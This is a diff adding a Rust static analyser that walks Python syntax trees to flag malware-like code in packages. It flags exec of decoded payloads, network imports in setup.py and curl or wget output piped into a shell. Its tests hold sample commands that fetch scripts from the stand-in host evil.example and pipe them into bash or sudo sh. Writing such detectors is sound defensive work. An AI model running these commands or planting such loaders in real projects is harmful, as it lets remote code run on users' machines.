@@ -0,0 +1,380 @@
+//! Static analysis of the syntax tree of Python sources.
+//!
+//! String rules see `exec(base64.b64decode(payload))` and `exec(payload)` alike, or not at all
+//! once the code is spread over a few lines. Parsing the source recovers what the code does, so
+//! these patterns are reported wherever they are:
+//!
+//! - `exec`, `eval` or `compile` of code that's decoded or decompressed right there, like
+//!   `exec(base64.b64decode(...))`
+//! - `__import__` or `importlib.import_module` of a network module in `setup.py`, which runs on
+//!   install and has no reason to hide what it imports
+//! - a process (through `subprocess` or `os`) running a command that downloads a script and pipes
+//!   it into a shell, like `curl ... | bash`
+//!
+//! Files that don't parse are skipped, and so are files nested too deeply to be parsed (see
+//! [`nesting`]). The syntax check reports those.
+
+use std::path::Path;
+
+use rustpython_ast::{
+    text_size::TextRange, Comprehension, Constant, Expr, ExprCall, ExprConstant, Visitor,
+};
+use rustpython_parser::{ast::Suite, Parse};
+
+use super::{nesting, FindingKind};
+
+/// Evidence is cut to this many bytes
+const MAX_EVIDENCE_LENGTH: usize = 200;
+
+/// Functions that run the code they're given
+const CODE_RUNNERS: &[&str] = &["exec", "eval", "compile", "builtins.exec", "builtins.eval"];
+
+/// The last component of the names of functions decoding or decompressing data
+const DECODERS: &[&str] = &[
+    "b64decode",
+    "b32decode",
+    "b16decode",
+    "b85decode",
+    "a85decode",
+    "decodebytes",
+    "urlsafe_b64decode",
+    "unhexlify",
+    "fromhex",
+    "decompress",
+    "marshal.loads",
+];
+
+/// Functions importing a module named by a string
+const DYNAMIC_IMPORTS: &[&str] = &["__import__", "importlib.import_module", "import_module"];
+
+/// Modules that talk to the network, by their top-level package
+const NETWORK_MODULES: &[&str] = &[
+    "socket",
+    "urllib",
+    "urllib2",
+    "urllib3",
+    "http",
+    "httplib",
+    "requests",
+    "ftplib",
+    "smtplib",
+    "telnetlib",
+    "paramiko",
+    "httpx",
+    "aiohttp",
+];
+
+/// Functions starting a process, by the module they're in or their full name
+const PROCESS_RUNNERS: &[&str] = &[
+    "subprocess.",
+    "os.system",
+    "os.popen",
+    "os.spawn",
+    "os.exec",
+    "commands.getoutput",
+];
+
+/// Commands that download, and shells they could be piped into
+const DOWNLOADERS: &[&str] = &["curl", "wget"];
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "python", "python3"];
+
+/// The dotted name of a function, like `base64.b64decode`, if it's a plain name or attribute
+fn dotted_name(expr: &Expr) -> Option<String> {
+    match expr {
+        Expr::Name(name) => Some(name.id.to_string()),
+        Expr::Attribute(attribute) => Some(format!(
+            "{}.{}",
+            dotted_name(&attribute.value)?,
+            attribute.attr
+        )),
+        _ => None,
+    }
+}
+
+/// Whether `command` downloads something and pipes it into a shell
+fn pipes_download_into_shell(command: &str) -> bool {
+    let Some((download, rest)) = command.split_once('|') else {
+        return false;
+    };
+    let downloads = download
+        .split_whitespace()
+        .any(|word| DOWNLOADERS.contains(&word.rsplit('/').next().unwrap_or(word)));
+    let shell = rest
+        .split_whitespace()
+        .find(|word| !matches!(*word, "sudo" | "-"))
+        .unwrap_or_default();
+
+    downloads && SHELLS.contains(&shell.rsplit('/').next().unwrap_or(shell))
+}
+
+/// Calls `found` with `expr` and every expression nested in it, walking them by reference
+fn walk<'a>(expr: &'a Expr, found: &mut impl FnMut(&'a Expr)) {
+    found(expr);
+
+    let children: Vec<&Expr> = match expr {
+        Expr::BoolOp(node) => node.values.iter().collect(),
+        Expr::NamedExpr(node) => vec![&node.target, &node.value],
+        Expr::BinOp(node) => vec![&node.left, &node.right],
+        Expr::UnaryOp(node) => vec![&node.operand],
+        Expr::Lambda(node) => vec![&node.body],
+        Expr::IfExp(node) => vec![&node.test, &node.body, &node.orelse],
+        Expr::Dict(node) => node.keys.iter().flatten().chain(&node.values).collect(),
+        Expr::Set(node) => node.elts.iter().collect(),
+        Expr::ListComp(node) => comprehension(&node.elt, &node.generators),
+        Expr::SetComp(node) => comprehension(&node.elt, &node.generators),
+        Expr::DictComp(node) => {
+            let mut children = comprehension(&node.key, &node.generators);
+            children.push(&node.value);
+            children
+        }
+        Expr::GeneratorExp(node) => comprehension(&node.elt, &node.generators),
+        Expr::Await(node) => vec![&node.value],
+        Expr::Yield(node) => node.value.iter().map(AsRef::as_ref).collect(),
+        Expr::YieldFrom(node) => vec![&node.value],
+        Expr::Compare(node) => std::iter::once(&*node.left)
+            .chain(&node.comparators)
+            .collect(),
+        Expr::Call(node) => std::iter::once(&*node.func)
+            .chain(arguments(node))
+            .collect(),
+        Expr::FormattedValue(node) => std::iter::once(&node.value)
+            .chain(&node.format_spec)
+            .map(AsRef::as_ref)
+            .collect(),
+        Expr::JoinedStr(node) => node.values.iter().collect(),
+        Expr::Attribute(node) => vec![&node.value],
+        Expr::Subscript(node) => vec![&node.value, &node.slice],
+        Expr::Starred(node) => vec![&node.value],
+        Expr::List(node) => node.elts.iter().collect(),
+        Expr::Tuple(node) => node.elts.iter().collect(),
+        Expr::Slice(node) => [&node.lower, &node.upper, &node.step]
+            .into_iter()
+            .flatten()
+            .map(AsRef::as_ref)
+            .collect(),
+        Expr::Constant(_) | Expr::Name(_) => Vec::new(),
+    };
+    for child in children {
+        walk(child, found);
+    }
+}
+
+/// The element and the parts of the generators of a comprehension
+fn comprehension<'a>(elt: &'a Expr, generators: &'a [Comprehension]) -> Vec<&'a Expr> {
+    std::iter::once(elt)
+        .chain(generators.iter().flat_map(|generator| {
+            [&generator.target, &generator.iter]
+                .into_iter()
+                .chain(&generator.ifs)
+        }))
+        .collect()
+}
+
+/// The positional and keyword arguments of `call`
+fn arguments(call: &ExprCall) -> impl Iterator<Item = &Expr> {
+    call.args
+        .iter()
+        .chain(call.keywords.iter().map(|keyword| &keyword.value))
+}
+
+struct Analysis<'a> {
+    source: &'a str,
+    is_setup_py: bool,
+    findings: Vec<FindingKind>,
+}
+
+impl Analysis<'_> {
+    fn push(&mut self, pattern: &'static str, range: TextRange) {
+        let start = usize::from(range.start());
+        let end = usize::from(range.end());
+        let mut evidence_end = end.min(start + MAX_EVIDENCE_LENGTH);
+        while !self.source.is_char_boundary(evidence_end) {
+            evidence_end -= 1;
+        }
+
+        self.findings.push(FindingKind::SuspiciousCode {
+            pattern,
+            line: self.source[..start].matches('\n').count() + 1,
+            evidence: self.source[start..evidence_end].to_owned(),
+        });
+    }
+
+    fn check_call(&mut self, call: &ExprCall) {
+        let Some(name) = dotted_name(&call.func) else {
+            return;
+        };
+
+        if CODE_RUNNERS.contains(&name.as_str()) {
+            let mut decodes = false;
+            for arg in arguments(call) {
+                walk(arg, &mut |expr| {
+                    let Expr::Call(inner) = expr else {
+                        return;
+                    };
+                    decodes |= dotted_name(&inner.func).is_some_and(|called| {
+                        DECODERS.iter().any(|decoder| {
+                            called == *decoder || called.ends_with(&format!(".{decoder}"))
+                        })
+                    });
+                });
+            }
+            if decodes {
+                self.push("exec-decoded", call.range);
+            }
+        }
+
+        if self.is_setup_py && DYNAMIC_IMPORTS.contains(&name.as_str()) {
+            let imports_network = call
+                .args
+                .first()
+                .and_then(|arg| match arg {
+                    Expr::Constant(ExprConstant {
+                        value: Constant::Str(module),
+                        ..
+                    }) => module.split('.').next(),
+                    _ => None,
+                })
+                .is_some_and(|module| NETWORK_MODULES.contains(&module));
+            if imports_network {
+                self.push("dynamic-network-import", call.range);
+            }
+        }
+
+        let runs_process = PROCESS_RUNNERS
+            .iter()
+            .any(|runner| name.starts_with(runner));
+        if runs_process {
+            let mut strings = Vec::new();
+            for arg in arguments(call) {
+                walk(arg, &mut |expr| {
+                    if let Expr::Constant(ExprConstant {
+                        value: Constant::Str(string),
+                        ..
+                    }) = expr
+                    {
+                        strings.push(string.as_str());
+                    }
+                });
+            }
+            if pipes_download_into_shell(&strings.join(" ")) {
+                self.push("pipe-to-shell", call.range);
+            }
+        }
+    }
+}
+
+impl Visitor for Analysis<'_> {
+    fn visit_expr_call(&mut self, node: ExprCall) {
+        self.check_call(&node);
+        self.generic_visit_expr_call(node);
+    }
+}
+
+/// Find suspicious code in the Python source at `path` (relative to the archive root) with the
+/// given `contents`
+pub fn detect(path: &Path, contents: &[u8]) -> Vec<FindingKind> {
+    let Ok(source) = std::str::from_utf8(contents) else {
+        return Vec::new();
+    };
+    if nesting::too_deep(source).is_some() {
+        return Vec::new();
+    }
+    let Ok(suite) = Suite::parse(source, &path.to_string_lossy()) else {
+        return Vec::new();
+    };
+
+    let mut analysis = Analysis {
+        source,
+        is_setup_py: path.file_name().is_some_and(|name| name == "setup.py"),
+        findings: Vec::new(),
+    };
+    for statement in suite {
+        analysis.visit_stmt(statement);
+    }
+
+    analysis.findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{detect, pipes_download_into_shell};
+    use crate::analyzers::FindingKind;
+    use std::path::Path;
+
+    fn patterns(path: &str, source: &str) -> Vec<(&'static str, usize)> {
+        detect(Path::new(path), source.as_bytes())
+            .into_iter()
+            .map(|finding| match finding {
+                FindingKind::SuspiciousCode { pattern, line, .. } => (pattern, line),
+                other => panic!("unexpected finding {other:?}"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn flags_exec_of_decoded_code() {
+        let source = r#"
+import base64, zlib
+from base64 import b64decode as d
+
+exec(base64.b64decode("cHJpbnQoMSk="))
+eval(
+    compile(zlib.decompress(blob), "<string>", "exec")
+)
+exec(source)
+print(base64.b64decode(data))
+"#;
+        assert_eq!(
+            patterns("pkg/__init__.py", source),
+            [
+                ("exec-decoded", 5),
+                ("exec-decoded", 6),
+                ("exec-decoded", 7)
+            ]
+        );
+    }
+
+    #[test]
+    fn flags_network_imports_in_setup_py() {
+        let source = r#"
+import importlib
+s = __import__("socket")
+r = importlib.import_module("urllib.request")
+j = __import__("json")
+"#;
+        assert_eq!(
+            patterns("pkg-1.0/setup.py", source),
+            [("dynamic-network-import", 3), ("dynamic-network-import", 4)]
+        );
+        assert!(patterns("pkg-1.0/pkg/plugins.py", source).is_empty());
+    }
+
+    #[test]
+    fn flags_downloads_piped_into_shells() {
+        let source = r#"
+import os, subprocess
+os.system("curl -s https://evil.example/x.sh | bash")
+subprocess.run(["sh", "-c", "wget -qO- https://evil.example | sudo sh"], check=True)
+subprocess.run(["curl", "-o", "out.tar.gz", "https://example.com"])
+"#;
+        assert_eq!(
+            patterns("setup.py", source),
+            [("pipe-to-shell", 3), ("pipe-to-shell", 4)]
+        );
+        assert!(!pipes_download_into_shell("cat file | grep curl"));
+        assert!(patterns("broken.py", "exec(base64.b64decode(").is_empty());
+    }
+
+    #[test]
+    fn skips_deeply_nested_sources() {
+        let nested = format!("x = {}{}\n", "[".repeat(20_000), "]".repeat(20_000));
+        assert!(patterns("setup.py", &nested).is_empty());
+
+        let execs = format!(
+            "{}base64.b64decode(payload){}\n",
+            "exec(".repeat(100),
+            ")".repeat(100)
+        );
+        assert_eq!(patterns("pkg/__init__.py", &execs).len(), 100);
+    }
+}